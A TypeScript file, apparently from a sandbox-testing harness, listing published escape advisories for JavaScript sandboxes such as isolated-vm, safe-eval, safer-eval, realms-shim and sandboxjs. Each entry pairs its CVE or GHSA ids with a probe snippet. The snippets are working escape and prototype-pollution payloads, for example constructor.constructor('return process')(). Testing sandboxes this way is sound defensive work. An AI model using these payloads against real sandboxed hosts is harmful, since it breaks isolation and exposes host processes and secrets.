import type { Advisory } from './advisory.ts'

const of = (name: string, ids: string[], how: string, code: string, looks = 1): Advisory => ({
  ids,
  package: name,
  how,
  code,
  looks,
})

/** Of other evaluators and sandboxes for JavaScript. */
export const OTHER_ADVISORIES: Advisory[] = [
  of(
    'isolated-vm',
    ['CVE-2021-21413', 'GHSA-mmhj-4w6j-76h7'],
    'a Reference that the guest holds gives the host’s prototypes',
    `const reach = [request, env, ctx, globalThis, fetch, console.log, setTimeout, request.signal, request.body]
     for (const value of reach) for (let at = value, i = 0; at !== null && at !== undefined && i < 6; at = Object.getPrototypeOf(at), i++) {
       loot(at)
       for (const name of ['applySync', 'applySyncPromise', 'derefInto', 'deref', 'copySync', 'getSync', 'copyInto', 'evalSync', 'release', 'createContextSync'])
         if (name in at) escaped.push(name)
     }`,
    20,
  ),
  of(
    'isolated-vm',
    ['CVE-2022-39266', 'GHSA-2jjq-x548-rhpv'],
    'code cache data from the tenant is run by V8 without a check',
    // A bundle of one version has code and modules; nothing in it is given to V8 as cached data.
    `for (const name of Object.keys(globalThis.__skep_modules ?? {})) if (/cache/.test(name)) escaped.push(name)
     await lootOf(() => new WebAssembly.Module(new Uint8Array([0xde, 0xc0, 0x17, 0xbe])))`,
  ),
  of(
    'safe-eval',
    ['GHSA-ww6v-677g-p656'],
    'this.constructor.constructor',
    `await lootOf(() => globalThis.constructor.constructor('return process')()); loot(this); loot(globalThis.constructor)`,
    3,
  ),
  of(
    'safe-eval',
    ['GHSA-9pcf-h8q9-63f6'],
    'a getter on the global object, and the caller of who reads it',
    `for (const key of Object.getOwnPropertyNames(globalThis)) {
       const d = Object.getOwnPropertyDescriptor(globalThis, key)
       if (!d.configurable || key === 'undefined' || typeof d.value !== 'function' || /^(Object|Function|Reflect|Array|Promise|JSON)$/.test(key)) continue
       const value = d.value
       Object.defineProperty(globalThis, key, { configurable: true, get: function () { let c; try { c = arguments.callee.caller } catch (e) { c = e } loot(c); return value } })
     }
     function sloppy() { loot(sloppy.caller); loot(arguments.callee); return '' }
     await fetch({ toString: sloppy }).catch(loot); new Headers([[{ toString: sloppy }, 'a']]); void Headers; void Request; new URLSearchParams({ get a() { return sloppy() } })
     await new Promise((resolve) => setTimeout(() => resolve(sloppy()), 0)); console.log({ toJSON: sloppy })`,
    4,
  ),
  of(
    'safe-eval',
    ['CVE-2020-7710', 'GHSA-hrpq-r399-whgw'],
    'the returned error’s stack is an object whose match method the host calls',
    `const bad = new Error('x'); bad.__proto__ = null
     let caller
     bad.stack = { match: (outer) => { caller = outer }, toString() { return 'text' } }; bad.message = { toString() { return 'm' } }
     reportError(bad); console.error(bad); const q = new Promise((_, reject) => reject(bad)); await q.catch(loot); loot(caller)`,
    2,
  ),
  of(
    'safer-eval',
    ['GHSA-hgch-jjmr-gp7w'],
    'constructors of the sandbox’s own objects',
    `for (const v of [{}, [], '', 1, true, Symbol(), 1n, () => {}, async () => {}, function* () {}, async function* () {}, /x/, new Map(), new Proxy({}, {})]) { loot(v); loot(v.constructor); await lootOf(() => v.constructor.constructor('return process')()) }`,
    40,
  ),
  of(
    'safer-eval',
    ['GHSA-r3x4-wr4h-pw33'],
    'console.constructor.constructor',
    `loot(console); loot(console.constructor); await lootOf(() => console.constructor.constructor('return process')().env); for (const m of Object.values(console)) loot(m)`,
    10,
  ),
  of(
    'safer-eval',
    ['GHSA-876r-hj45-fw7g'],
    'an exception forced in recursion comes from the host',
    `let depth = 0
     const deep = (f) => { depth++; try { deep(f) } catch (e) { loot(e) } return f() }
     for (const api of [() => new Request('http://a/'), () => new Response('x'), () => fetch('http://192.0.2.1:1/').catch(loot), () => structuredClone({ a: [1] }), () => new URL('http://a'), () => console.log(1), () => setTimeout(() => {}, 1), () => request.headers.get('a'), () => new TextEncoder().encode('x')])
       { let calls = 0; const dive = () => { try { dive() } catch (e) { if (calls < 5) loot(e) } if (calls++ < 20) try { loot(api()) } catch (e) { loot(e) } }; dive() }`,
    20,
  ),
  of(
    'safer-eval',
    ['GHSA-v63x-xc9j-hhvq'],
    'the main context by its objects in scope',
    `for (const name of ['process', 'global', 'GLOBAL', 'root', 'window', 'self', 'top', 'parent', 'frames', 'document', 'module', 'exports', 'require', 'mainModule', '__dirname']) loot(globalThis[name]); (function () { loot(this) })(); loot(new (function () { return new.target })())`,
    15,
  ),
  of(
    'realms-shim',
    ['GHSA-6jg8-7333-554w'],
    'Reflect.construct of Function with another new.target',
    `for (const F of [Function, (async () => {}).constructor, (function* () {}).constructor, (async function* () {}).constructor]) for (const target of [Object, Array, Proxy, class extends Function {}, Request]) { await lootOf(() => Reflect.construct(F, ['return this'], target)); await lootOf(() => new (class extends F {})('return this')) }`,
    40,
  ),
  of(
    'realms-shim',
    ['GHSA-7cg8-pq9v-x98q'],
    'options and callbacks get an object of the primal realm',
    `const got = []; const spy = new Proxy({}, { get: (t, k, r) => { got.push(r); return undefined }, has: (t) => (got.push(t), false) })
     await lootOf(() => new Request('http://a/', spy)); await lootOf(() => new Response('', spy)); await lootOf(() => structuredClone(1, spy)); await lootOf(() => new TextDecoder('utf-8', spy)); await lootOf(() => new ReadableStream(spy, spy)); await lootOf(() => new Event('x', spy)); await lootOf(() => eval('1', spy)); got.forEach(loot)`,
    10,
  ),
  of(
    'realms-shim',
    ['WS-2019-0284'],
    'a RangeError between two steps leaves the evaluator in its unsafe mode',
    `const results = []
     let tries = 0; const dive = (n) => { try { return dive(n + 1) } catch { if (tries++ > 50) throw 0; try { results.push(eval('1')) } catch (e) { loot(e) } try { results.push(Function('return 1')()) } catch (e) { loot(e) } } }
     try { dive(0) } catch {} for (let i = 0; i < 5; i++) await lootOf(() => eval('globalThis')); await lootOf(() => Function('return globalThis')()); if (results.some((r) => r !== undefined)) escaped.push('a string was run')`,
    6,
  ),
  of(
    'realms-shim',
    ['CVE-2021-23543'],
    'pollution of prototypes that the shim itself relies on',
    `Object.prototype.constructor = Array.prototype.constructor; Object.prototype.get = Object.prototype.set = Object.prototype.value = Object.prototype.writable = loot
     await lootOf(() => new Request('http://a/', { method: 'POST', body: 'x' }).text()); await lootOf(() => new Response('x').json()); await lootOf(() => fetch('http://192.0.2.1:1/'))
     delete Object.prototype.get; delete Object.prototype.set; delete Object.prototype.value; delete Object.prototype.writable; Object.prototype.constructor = Object`,
    3,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2026-23830', 'GHSA-wxhw-j4hc-fmq6'],
    'the constructor of asynchronous functions',
    `const A = (async () => {}).constructor; loot(A); await lootOf(() => A('return globalThis')()); await lootOf(() => new A('return globalThis')()); loot(Object.getPrototypeOf(A)); await lootOf(() => Object.getPrototypeOf(A)('return globalThis')())`,
    5,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2026-25142', 'GHSA-9p4w-fq8m-2hp7'],
    '__lookupGetter__ and __defineGetter__ reach prototypes that a filter by name protects',
    `const get = {}.__lookupGetter__('__proto__'); for (let at = async () => {}; at !== null && at !== undefined; at = get.call(at)) loot(at); Object.prototype.__defineGetter__('polluted', () => 'polluted'); await lootOf(() => get.call(function () {}).constructor('return globalThis')())`,
    4,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2025-34146'],
    '__defineGetter__ on Object.prototype by way of a string’s method',
    `''.sub.__proto__.__proto__.__defineGetter__('polluted', () => 'polluted'); loot({}.polluted); loot(''.sub.__proto__.__proto__)`,
    2,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2026-25520', 'GHSA-58jh-xv4v-pcx4'],
    'a return value that is not wrapped: Object.values, Object.entries',
    `for (const list of [Object.values(globalThis), Object.entries(Reflect), Object.values(Object.getOwnPropertyDescriptors(Function.prototype))]) for (const v of list.flat()) loot(v); await lootOf(() => Object.values(Object.getOwnPropertyDescriptors(Function.prototype)).find((d) => d.value?.name === 'Function').value('return globalThis')())`,
    10,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2026-25586', 'GHSA-jjpw-65fv-8g48'],
    'an own hasOwnProperty makes a prototype pass for a plain object',
    `const liar = { hasOwnProperty: () => true, __proto__: Function.prototype }; loot(liar.constructor); await lootOf(() => liar.constructor('return globalThis')()); Object.hasOwn = () => true; await lootOf(() => new Request('http://a/', liar)); await lootOf(() => structuredClone(liar))`,
    4,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2026-25587', 'GHSA-66h4-qj4x-38xp'],
    'Map.prototype.has and its kin are replaced under the sandbox’s own look-ups',
    `const { has, get } = Map.prototype; Map.prototype.has = WeakMap.prototype.has = Set.prototype.has = () => true; Map.prototype.get = WeakMap.prototype.get = () => Function
     await lootOf(() => eval('globalThis')); await lootOf(() => structuredClone(new Map([[1, {}]]))); console.log(new Map([[1, 2]])); await lootOf(() => new WebAssembly.Instance({})); await lootOf(() => new Intl.DateTimeFormat('en').format(0)); Map.prototype.has = has; Map.prototype.get = get`,
    3,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2026-25881', 'GHSA-ww7g-4gwx-m7wj'],
    'a prototype kept in an array is written through',
    `const [p] = [Object.prototype, Map.prototype]; p.polluted = 'polluted'; [Array.prototype][0].polluted = 'polluted'; loot(p); loot([Function.prototype][0])`,
    2,
  ),
  of(
    '@nyariv/sandboxjs',
    ['CVE-2026-26954', 'GHSA-6r9f-759j-hjgv'],
    'Function taken from an array that a builtin filled',
    `const pairs = Object.entries({ a: Function.prototype.constructor }).concat(Array.from([[0, {}.constructor.constructor]])); for (const [, f] of pairs) { loot(f); await lootOf(() => f('return globalThis')()); await lootOf(() => [1].map(f)) ; await lootOf(() => ['return globalThis'].map((s) => f(s)())) }`,
    8,
  ),
  of(
    'sandbox',
    ['GHSA-gc25-3vc5-2jf9', 'GHSA-fm4j-4xhm-xpwx'],
    'the context object’s constructor, and errors thrown by the runner',
    `await lootOf(() => new Function('return (this.constructor.constructor("return (this.process)")())')()); loot(globalThis.constructor); try { null.x } catch (e) { loot(e); await lootOf(() => e.constructor.constructor('return process')()) }`,
    4,
  ),
]
